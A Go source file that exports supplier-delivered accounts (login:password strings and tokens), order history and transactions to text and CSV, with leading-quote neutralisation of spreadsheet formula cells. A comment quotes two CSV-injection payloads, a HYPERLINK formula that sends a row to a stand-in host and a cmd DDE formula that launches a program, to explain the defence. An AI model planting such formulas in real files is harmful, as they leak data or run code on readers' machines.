package account

import (
	"bytes"
	"encoding/csv"
	"strconv"
	"strings"
	"time"
)

// Export of delivered accounts.
//
// .txt: one account per line, each line ending in "\n", exactly as delivered. An account that
// itself holds a line break (no real account does; a hostile or broken answer might) has its line
// breaks replaced by spaces, so that the file always has exactly one line per account.
//
// .csv: RFC 4180 through encoding/csv, header "order,account", then one record per account with
// the account as delivered (quoted when it holds a comma, a quote or a line break) — except that
// an account beginning with '=', '+', '-', '@', a tab or a carriage return gets a single quote
// (') put in front of it. Accounts come from suppliers, and a spreadsheet opening the file would
// otherwise run such a cell as a formula (=HYPERLINK("http://x/?"&A2) leaks the row,
// =cmd|' /C calc'!A0 runs a program: CSV injection, OWASP's rule). The quote shows in the cell;
// a reader that needs the exact account strips one leading quote from a cell whose second
// character is one of those six, or takes the .txt export, which is never altered this way. The
// account is not split into login and password: accounts come as login:password,
// mail:password:recovery-mail, or tokens without any ':', and a split on the first ':' would
// misrepresent the latter.

// ExportTXT is the .txt export of accounts.
func ExportTXT(accounts []string) []byte {
	var b bytes.Buffer
	for _, a := range accounts {
		b.WriteString(oneLine(a))
		b.WriteByte('\n')
	}
	return b.Bytes()
}

// oneLine replaces the line breaks in s by spaces.
func oneLine(s string) string {
	if !strings.ContainsAny(s, "\r\n") {
		return s
	}
	s = strings.ReplaceAll(s, "\r\n", " ")
	return strings.NewReplacer("\r", " ", "\n", " ").Replace(s)
}

// ExportCSV is the .csv export of the accounts of order.
func ExportCSV(order int64, accounts []string) []byte {
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	_ = w.Write([]string{"order", "account"}) // a bytes.Buffer does not fail
	id := strconv.FormatInt(order, 10)
	for _, a := range accounts {
		_ = w.Write([]string{id, csvCell(a)})
	}
	w.Flush()
	return b.Bytes()
}

// csvCell neutralises a cell that a spreadsheet would read as a formula: one beginning with '=',
// '+', '-', '@', a tab or a carriage return gets a leading single quote.
func csvCell(s string) string {
	if s != "" && strings.IndexByte("=+-@\t\r", s[0]) >= 0 {
		return "'" + s
	}
	return s
}

// ExportOrdersCSV is the order history as CSV: one record per order, newest first as given, with
// the header order,placed,service,name,link,quantity,status,charge,currency,delivered. Times are
// RFC 3339 in UTC, amounts exact. Cells that a spreadsheet would run as a formula are neutralised
// like ExportCSV's.
func ExportOrdersCSV(orders []Order) []byte {
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	_ = w.Write([]string{"order", "placed", "service", "name", "link", "quantity", "status", "charge", "currency", "delivered"})
	for _, o := range orders {
		charge := ""
		if o.Status != "" {
			charge = o.Charge.String()
		}
		_ = w.Write([]string{
			strconv.FormatInt(o.ID, 10), o.PlacedAt.UTC().Format(time.RFC3339), strconv.FormatInt(o.Service, 10),
			csvCell(o.Label), csvCell(o.Link), strconv.FormatInt(o.Quantity, 10), csvCell(string(o.Status)),
			charge, csvCell(o.Currency), strconv.Itoa(o.Delivered),
		})
	}
	w.Flush()
	return b.Bytes()
}

// ExportTransactionsCSV is the transactions as CSV: date (RFC 3339, UTC), kind, order, what,
// amount, balance after; an unknown amount or balance is an empty cell. Formula cells are
// neutralised.
func ExportTransactionsCSV(ts []Transaction) []byte {
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	_ = w.Write([]string{"date", "kind", "order", "what", "amount", "balance"})
	for _, t := range ts {
		kind, amount, balance := "order", "", ""
		if t.Number {
			kind = "number"
		}
		if t.Known {
			amount = t.Amount.String()
		}
		if t.BalanceKnown {
			balance = t.Balance.String()
		}
		_ = w.Write([]string{t.At.UTC().Format(time.RFC3339), kind, strconv.FormatInt(t.Order, 10), csvCell(t.Label), amount, balance})
	}
	w.Flush()
	return b.Bytes()
}
